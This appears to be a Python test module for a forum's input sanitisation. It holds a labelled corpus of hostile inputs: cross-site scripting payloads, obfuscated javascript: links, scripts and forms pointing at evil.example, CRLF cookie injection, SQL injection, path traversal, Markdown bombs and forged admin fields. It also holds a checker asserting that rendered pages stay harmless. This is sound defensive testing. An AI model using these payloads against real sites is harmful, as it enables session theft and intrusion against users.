"""A corpus of hostile input, for every test that puts user text on a page.

Other parts reuse it: `for text in HOSTILE_INPUTS: ...` on their own fields, then
`assert_harmless(page)`. Each entry is (label, text) so a failure names the attack.
"""
from tests.html_checks import PageFinder, page_problems

# Usernames the tests create so that mention abuse names real people.
HIDDEN_TEEN = "hidden_teen"

LINKS = [
    ("javascript link", "[click](javascript:alert(1))"),
    ("mixed-case javascript", "[click](JaVaScRiPt:alert(1))"),
    ("javascript after space", "[click]( javascript:alert(1))"),
    ("javascript with a tab", "[click](java\tscript:alert(1))"),
    ("javascript with a newline", "[click](java\nscript:alert(1))"),
    ("decimal entity javascript", "[click](&#106;avascript:alert(1))"),
    ("hex entity javascript", "[click](&#x6A;avascript:alert(1))"),
    ("padded entity javascript", "[click](&#0000106&#0000097vascript:alert(1))"),
    ("entity colon", "[click](javascript&colon;alert(1))"),
    ("data html link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("data svg image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("vbscript link", "[click](vbscript:msgbox(1))"),
    ("javascript image", "![x](javascript:alert(1))"),
    ("javascript autolink", "<javascript:alert(1)>"),
    ("reference-style javascript", "[click][evil]\n\n[evil]: javascript:alert(1)"),
    ("javascript in title", '[click](https://ok.example "x\\" onmouseover=\\"alert(1)")'),
    ("raw html javascript href", '<a href="javascript:alert(1)">click</a>'),
    ("entity-obfuscated raw href", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    ("file url", "[x](file:///etc/passwd)"),
]
RAW_HTML = [
    ("script tag", "<script>alert(1)</script>"),
    ("external script", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("split script", "<<script>script>alert(1)<</script>/script>"),
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("svg onload", "<svg onload=alert(1)>"),
    ("svg script", "<svg><script>alert(1)</script></svg>"),
    ("iframe", '<iframe src="https://evil.example"></iframe>'),
    ("object", '<object data="evil.swf"></object>'),
    ("embed", '<embed src="evil.swf">'),
    ("form", '<form action="https://evil.example"><input name="password"></form>'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    ("base href", '<base href="https://evil.example/">'),
    ("link stylesheet", "<link rel=stylesheet href=https://evil.example/x.css>"),
    ("style element", "<style>body{display:none}</style>"),
    ("style attribute", '<p style="position:fixed;top:0;left:0;width:100%">overlay</p>'),
    ("onclick", '<a href="https://ok.example" onclick="alert(1)">x</a>'),
    ("details ontoggle", "<details open ontoggle=alert(1)>"),
    ("autofocus onfocus", "<input autofocus onfocus=alert(1)>"),
    ("body onload", "<body onload=alert(1)>"),
    ("math mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("textarea breakout", "</textarea><script>alert(1)</script>"),
    ("attribute breakout", '"><script>alert(1)</script>'),
    ("single-quote breakout", "' onmouseover='alert(1)"),
    ("html comment", "<!--<script>alert(1)</script>-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("template syntax", "{{ config }} {% for x in range(9) %}{{ x }}{% endfor %} ${7*7}"),
]
MENTIONS = [
    ("fifty mentions", " ".join(f"@someone{n}" for n in range(50))),
    ("mention of a hidden teen", f"Hello @{HIDDEN_TEEN}, are you there?"),
    ("staff-looking mentions", "@admin @moderators @all @here @everyone"),
    ("mention in a link", f"[@{HIDDEN_TEEN}](javascript:alert(1))"),
]
UNICODE = [
    ("right-to-left override", "\u202eevil.exe\u202c harmless.txt"),
    ("isolates", "\u2066\u2067\u2068text\u2069"),
    ("zero-width characters", "a\u200bd\u200cm\u200di\u2060n\ufeff"),
    ("combining overload", "Z" + "\u0336\u0334\u0321\u0322\u0358" * 60),
    ("homoglyph name", "аdmin (Cyrillic a)"),
    ("emoji and astral", "🤗🙌💡 𝕳𝖊𝖑𝖑𝖔"),
    ("nul bytes", "before\x00after\x00"),
    ("control characters", "\x1b[31mred\x1b[0m \x07 \x08"),
    ("crlf header injection", "x\r\nSet-Cookie: session=stolen\r\n\r\n<script>alert(1)</script>"),
    ("one long word", "A" * 5000),
]
OTHER = [
    ("sql-looking", "' OR 1=1; DROP TABLE users; --"),
    ("like wildcards", "%_%\\"),
    ("path traversal", "../../../../etc/passwd"),
    ("markdown table bomb", "|a|" * 300 + "\n" + "|-|" * 300),
    ("nested quotes", "> " * 500 + "deep"),
    ("just whitespace", " \t \n "),
    # str.isdigit() says yes to it; int() fails on it.
    ("superscript digit", "²"),
]
# Markdown built to be slow or to nest deeper than Python's stack (see forum.text.workload).
COSTLY = [
    ("bracket bomb", "[" * 19_000),
    ("unclosed tag bomb", "<a " * 6_000),
    ("nested list bomb", "1. " * 600),
]
HUGE = [
    ("over the post limit", "x" * 30_000),
    ("over the request limit", "y" * 1_100_000),
]

HOSTILE_INPUTS: list[tuple[str, str]] = LINKS + RAW_HTML + MENTIONS + UNICODE + OTHER + COSTLY + HUGE

# For a choice (a select, a checkbox, a hidden field), the inputs that differ in what they
# could do to it: a choice is checked against its list before anything reads it, so the
# thirty ways of smuggling a script into Markdown take one path there. These stand for the
# corpus: what could break out of the page it is echoed into, what the database or a header
# might choke on, what looks like a number, and what is too long or too large.
CHOICE_PROBES: frozenset[str] = frozenset({
    "javascript link", "script tag", "attribute breakout", "single-quote breakout", "template syntax",
    "sql-looking", "like wildcards", "path traversal", "superscript digit", "just whitespace",
    "nul bytes", "control characters", "crlf header injection", "right-to-left override", "emoji and astral",
    "one long word", "over the request limit",
})

# For plain text (a title, a name, a reason: stored as typed, shown escaped, never through
# Markdown), the inputs that differ in what they could do to it. The many ways of smuggling a
# link or a script past Markdown and the sanitiser take one path here, escaping, so "script
# tag" stands for them; those kept are what could break out of where the text is echoed (a
# textarea, an attribute, a comment), what a linkifier or a mention finder might pick out,
# what lays text out wrongly, and what a database, a header or a number parser chokes on.
# Markdown fields (a post, a bio, a lesson: those stored beside their *_html) get the whole corpus.
PLAIN_TEXT_PROBES: frozenset[str] = CHOICE_PROBES | {
    "raw html javascript href", "javascript autolink", "img onerror", "textarea breakout", "html comment",
    "fifty mentions", "mention of a hidden teen", "isolates", "zero-width characters", "combining overload",
    "homoglyph name", "bracket bomb", "over the post limit",
}

PLAIN_TEXT_INPUTS: list[tuple[str, str]] = [(label, text) for label, text in HOSTILE_INPUTS if label in PLAIN_TEXT_PROBES]

# Values for search boxes and other query-string parameters.
HOSTILE_QUERY_VALUES: list[tuple[str, str]] = [
    *[(label, text) for label, text in RAW_HTML[:6] + LINKS[:3] + UNICODE + OTHER[:3]],
    ("huge number", "9" * 40),
    ("number with 5000 digits", "9" * 5000),
    ("zero-padded number", "0" * 40 + "7"),
    ("negative number", "-1"),
    ("superscript digit", "²"),
    ("arabic-indic digit", "٣"),
    ("float", "1.5e308"),
    ("empty", ""),
]

# Fields nobody's form has: a forged request must not reach them.
FORGED_FIELDS = {
    "role": "admin", "roles": "admin", "is_admin": "1", "age_group": "adult", "author_id": "1",
    "user_id": "1", "thread_id": "1", "hidden_at": "", "session_epoch": "0", "suspended_until": "",
    "reporter_id": "1", "status": "resolved", "password_hash": "x",
}

_OWN_META = {"charset", "viewport", "csrf-token"}


class _OwnResources(PageFinder):
    """Besides what PageFinder looks for: only our own stylesheets and meta tags."""

    def handle_starttag(self, tag, attrs):
        super().handle_starttag(tag, attrs)
        values = dict(attrs)
        if tag == "link" and not (values.get("href") or "").startswith("/static/"):
            self.problems.append(f"foreign <link> {values}")
        if tag == "meta" and not (_OWN_META & set(values) or values.get("name") in _OWN_META):
            self.problems.append(f"foreign <meta> {values}")
        if tag == "base":
            self.problems.append("<base>")


def markup_problems(html: str) -> list[str]:
    """Everything in a whole page that could run or take over: [] when harmless (one pass)."""
    return page_problems(html, _OwnResources())


def assert_harmless(response, what: str = "") -> None:
    assert response.status_code < 500, f"{what}: {response.status_code}"
    problems = markup_problems(response.get_data(as_text=True))
    assert problems == [], f"{what}: {problems}"
